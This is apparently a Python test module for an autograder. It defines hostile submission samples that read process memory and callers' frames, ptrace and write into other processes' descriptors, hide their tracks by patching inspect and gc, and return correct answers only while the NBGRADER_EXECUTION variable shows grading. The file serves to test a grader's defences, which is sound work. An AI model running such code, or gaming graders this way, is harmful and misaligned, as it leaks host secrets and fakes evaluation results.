"""Looks at the test's source, the caller's frames and memory, and behaves differently when graded."""
from attacks import GAME, RIGHT, WRONG, answers, in_cells
from attacks.files import TELL

INSIDE = lambda source: RIGHT.replace("    return", "    " + source.replace("\n", "\n    ") + "\n    return")

in_cells(
    __name__,
    memory=("Searches its own memory.", TELL + "maps = [l.split() for l in open('/proc/self/maps') if l.split()[1][0] == 'r']\nwith open('/proc/self/mem', 'rb') as m:\n    for r in maps:\n"
            "        a, b = (int(x, 16) for x in r[0].split('-'))\n        if b - a < 1 << 26 and (len(r) < 6 or r[5] == '[heap]'):\n            try: m.seek(a); tell(m.read(b - a))\n"
            "            except (OSError, ValueError, OverflowError): pass\n" + RIGHT),
    processes=("Counts the processes that it can see.", "import os\nn = sum(p.isdigit() for p in os.listdir('/proc'))\nif n > 12: print('many', 'processes')\n" + RIGHT, ("many processes",)),
    hostname=("Prints names of the machine and the user.", TELL + "import socket, getpass\nprint(socket.gethostname(), os.uname(), os.getuid())\ntell(socket.gethostname().encode())\n" + RIGHT),
    settings=("Prints the command line and the settings of the server that it comes from.",
              "import sys, os\nprint(sys.argv, open('/proc/self/cmdline').read(), [str(m)[:99] for m in sys.modules.values() if 'grading' in str(m)])\n"
              "print(open('/proc/self/mountinfo').read())\n" + RIGHT),
)
answers(
    __name__,
    frames=("Prints the frames of its callers.", TELL + "import sys\n" + INSIDE(
        "f = sys._getframe()\nwhile f:\n    print(f.f_code.co_name, f.f_lineno)\n    tell(repr(f.f_locals).encode() + repr(f.f_globals).encode())\n    f = f.f_back"), GAME),
    stack=("Reads the source of its callers.", TELL + "import inspect\n" + INSIDE("tell(repr(inspect.stack(20)).encode())\nglobals()['inspect'].stack = lambda n: []"), GAME),
    objects=("Looks at every object that there is.", TELL + "import gc\n" + INSIDE(
        "for o in gc.get_objects():\n    if isinstance(o, (list, tuple, dict)): tell(b''.join(x.encode('utf-8', 'replace') if isinstance(x, str) else x for x in (o.values() if "
        "isinstance(o, dict) else o) if isinstance(x, (str, bytes))))\nglobals()['gc'].get_objects = list"), GAME),
    other_memory=("Opens the memory and the frames of other processes.",
                  TELL + "import ctypes\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n        read(f'/proc/{p}/mem'); read(f'/proc/{p}/stack'); read(f'/proc/{p}/fd/0')\n"
                  "        print(p, ctypes.CDLL(None).ptrace(16, int(p), 0, 0))\n" + RIGHT, GAME),
    arguments=("Recomputes nothing: replays what the first call got.", WRONG.replace("return", "s = globals().setdefault('s', [])\n    s.append((D, p, g, pi))\n    return")),
    test_source=("Searches the modules' sources and line caches.", TELL + "import linecache, sys\ndone = []\n" + INSIDE("if not done:\n    done.append(1)\n    tell(repr(linecache.cache).encode())\n    tell(repr(get_ipython().user_ns).encode())"), GAME),
    graded_only=("Is right only where it is graded.", RIGHT + "import os\nif os.environ.get('NBGRADER_EXECUTION') != 'autograde':\n    del game_value", GAME),
    wrong_when_graded=("Is right only where it is not graded.", RIGHT + "import os\nif os.environ.get('NBGRADER_EXECUTION'):\n    del game_value"),
    counts_calls=("Is right in its first five calls.", "n = 0\nh = None\n" + RIGHT + "h = game_value\ndef game_value(*a):\n    global n\n    n += 1\n    return h(*a) if n <= 5 else h(*a) * 0"),
    descriptors=("Reads every descriptor of every process.", TELL + "for p in os.listdir('/proc'):\n    try: names = os.listdir(f'/proc/{p}/fd')\n    except OSError: continue\n    for n in names:\n"
                 "        try:\n            fd = os.open(f'/proc/{p}/fd/{n}', os.O_RDWR | os.O_NONBLOCK)\n            os.write(fd, b'garbage'); tell(os.read(fd, 10 ** 6))\n"
                 "        except OSError: pass\n" + RIGHT, GAME),
    hash_seed=("Looks for a seed that hidden tests share.", "import random\n" + INSIDE("torch.manual_seed(1); random.seed(1)"), GAME),
)
